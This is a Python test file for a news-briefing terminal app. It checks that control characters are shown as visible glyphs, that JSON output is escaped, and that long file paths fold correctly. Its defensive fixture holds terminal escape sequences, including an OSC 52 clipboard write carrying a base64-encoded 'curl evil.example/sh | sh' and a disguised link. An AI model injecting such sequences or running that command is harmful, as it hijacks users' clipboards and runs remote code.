"""Text made safe to show: each control character one visible character, JSON escaped."""

from __future__ import annotations

import json

from briefing_tui.errors import InputError
from briefing_tui.terminal_text import (
    escaped_json,
    folded_path,
    has_controls,
    one_line,
    visible_controls,
)

#: One of each kind of sequence a hostile article may carry.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"  # OSC 52: write the clipboard
    "\x1b]0;pwned\x07"  # OSC 0: the window title
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a disguised link
    "\x1b[2J\x1b[?1049l"  # CSI: clear the screen, leave the alternate screen
    "\x9b31m"  # C1 CSI
    "\x1b \x07 \x00 \x7f"  # bare ESC, BEL, NUL, DEL
)


def test_every_control_becomes_one_visible_character() -> None:
    shown = visible_controls(HOSTILE)
    assert len(shown) == len(HOSTILE)  # offsets into the text still hold
    assert not has_controls(shown, lines=False)
    assert shown.startswith("␛]52;c;")
    assert "␇" in shown and "␀" in shown and "␡" in shown and "\ufffd31m" in shown


def test_newline_and_tab_are_kept_in_text_and_shown_on_one_line() -> None:
    assert visible_controls("a\tb\nc") == "a\tb\nc"
    assert one_line("a\tb\nc\x1b") == "a␉b␊c␛"
    assert one_line("plain") == "plain"


def test_an_error_message_shows_the_escape_in_a_file_name() -> None:
    assert str(InputError("evil\x1b]0;x\x07.txt: no such file")) == "evil␛]0;x␇.txt: no such file"


def test_json_escapes_c1_and_the_line_separators() -> None:
    value = {"text": "a\x1b b\x9b c\u2028 d\u2029 é"}
    dumped = escaped_json(json.dumps(value, ensure_ascii=False))
    assert json.loads(dumped) == value
    assert not has_controls(dumped) and "\u2028" not in dumped and "\u2029" not in dumped
    assert "\\u009b" in dumped and "é" in dumped


def test_folded_path_breaks_after_a_slash_and_cuts_only_a_name_longer_than_a_line() -> None:
    path = "/home/ana/news/briefings/harbour-board-delays-ferry-vote-briefing.md"
    assert folded_path(path, 30).split("\n") == [
        "/home/ana/news/briefings/",
        "harbour-board-delays-ferry-vot",
        "e-briefing.md",
    ]
    assert folded_path("/a/bb/cc.md", 40) == "/a/bb/cc.md"
    assert folded_path("/a/bb/cc.md", 8) == "/a/bb/\ncc.md"
